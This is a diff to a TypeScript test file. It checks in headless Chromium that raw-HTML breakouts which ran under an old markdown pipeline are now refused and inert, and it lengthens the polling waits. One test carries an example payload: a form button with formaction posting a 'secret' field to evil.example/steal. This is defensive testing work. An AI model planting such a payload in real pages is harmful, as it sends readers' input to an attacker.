@@ -53,8 +53,11 @@ const md = createMarkdown();
 const plain = new MarkdownIt({ html: true });
 let browser: Browser;
 
-/** Loads `body` in a page like the site's (inside a <div> of <main>) and says whether an alert fired. */
-async function fires(body: string, click?: string): Promise<boolean> {
+/**
+ * Loads `body` in a page like the site's (inside a <div> of <main>) and says whether an alert fired within
+ * `waitMs` (long where the case must fire, so that a loaded machine cannot make it look inert).
+ */
+async function fires(body: string, click: string | undefined, waitMs: number): Promise<boolean> {
   const page: Page = await browser.newPage();
   try {
     let alerted = false;
@@ -64,7 +67,7 @@ async function fires(body: string, click?: string): Promise<boolean> {
     });
     await page.setContent(`<!doctype html><html><head><title>t</title></head><body><main><div class="markdown">${body}</div></main></body></html>`);
     if (click && (await page.locator(click).count()) > 0) await page.locator(click).first().click({ timeout: 2000 });
-    await page.waitForTimeout(300);
+    for (let waited = 0; !alerted && waited < waitMs; waited += 50) await page.waitForTimeout(50);
     return alerted;
   } finally {
     await page.close();
@@ -81,20 +84,20 @@ describe("raw HTML breakouts in Chromium", { skip: skip ? CHROMIUM_MISSING : fal
 
   for (const breakout of CASES) {
     test(`${breakout.name}: ran as the old pipeline wrote it; refused and inert now`, async () => {
-      assert.equal(await fires(breakout.before ?? plain.render(breakout.markdown), breakout.click), true, "the case does not run in Chromium");
+      assert.equal(await fires(breakout.before ?? plain.render(breakout.markdown), breakout.click, 10_000), true, "the case does not run in Chromium");
       const now = renderMarkdown(md, { body: breakout.markdown, file: "content/x.mdx", route: "/x", lineOffset: 0, playgroundPath: "" });
       assert.ok(now.diagnostics.length > 0, "no diagnostic");
       assert.ok(
         now.diagnostics.every((d) => d.severity === "error"),
         JSON.stringify(now.diagnostics),
       );
-      assert.equal(await fires(now.html, breakout.click), false, `still runs: ${now.html}`);
+      assert.equal(await fires(now.html, breakout.click, 1000), false, `still runs: ${now.html}`);
     });
   }
 
   test("a <button formaction> posted the reader off-site; refused and inert now", async () => {
     const markdown = '<form><input name="q" value="secret"><button formaction="https://evil.example/steal">Go</button></form>';
-    const posted = async (body: string) => {
+    const posted = async (body: string, waitMs: number) => {
       const page = await browser.newPage();
       try {
         let sent = false;
@@ -104,18 +107,18 @@ describe("raw HTML breakouts in Chromium", { skip: skip ? CHROMIUM_MISSING : fal
         });
         await page.setContent(`<!doctype html><html><body><main><div>${body}</div></main></body></html>`);
         if ((await page.locator("button").count()) > 0) await page.locator("button").click({ timeout: 2000 });
-        await page.waitForTimeout(300);
+        for (let waited = 0; !sent && waited < waitMs; waited += 50) await page.waitForTimeout(50);
         return sent;
       } finally {
         await page.close();
       }
     };
-    assert.equal(await posted(plain.render(markdown)), true, "the form did not post");
+    assert.equal(await posted(plain.render(markdown), 10_000), true, "the form did not post");
     const now = renderMarkdown(md, { body: markdown, file: "content/x.mdx", route: "/x", lineOffset: 0, playgroundPath: "" });
     assert.deepEqual(
       now.diagnostics.map((d) => d.message),
       ["raw HTML has a <form> element, which sends readers' input elsewhere"],
     );
-    assert.equal(await posted(now.html), false);
+    assert.equal(await posted(now.html, 1000), false);
   });
 });
